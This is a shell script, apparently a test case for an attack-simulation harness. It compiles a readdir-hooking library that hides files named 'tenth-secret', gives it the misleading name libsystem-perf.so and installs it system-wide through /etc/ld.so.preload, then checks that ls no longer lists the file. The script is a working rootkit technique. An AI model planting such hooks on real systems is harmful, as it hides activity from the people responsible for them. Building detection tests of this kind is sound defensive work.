#!/bin/sh
. /opt/case/case.sh

cat >/tmp/h.c <<'END'
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
struct dirent *readdir(DIR *d) { struct dirent *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir"), *e; while ((e = next(d)) && strstr(e->d_name, "tenth-secret")); return e; }
END
gcc -shared -fPIC -o /usr/local/lib/libsystem-perf.so /tmp/h.c -ldl; rm /tmp/h.c
echo /usr/local/lib/libsystem-perf.so >/etc/ld.so.preload
touch /tmp/tenth-secret; ! ls /tmp | grep -q tenth-secret || ls -d /tmp/tenth-secret
took_place
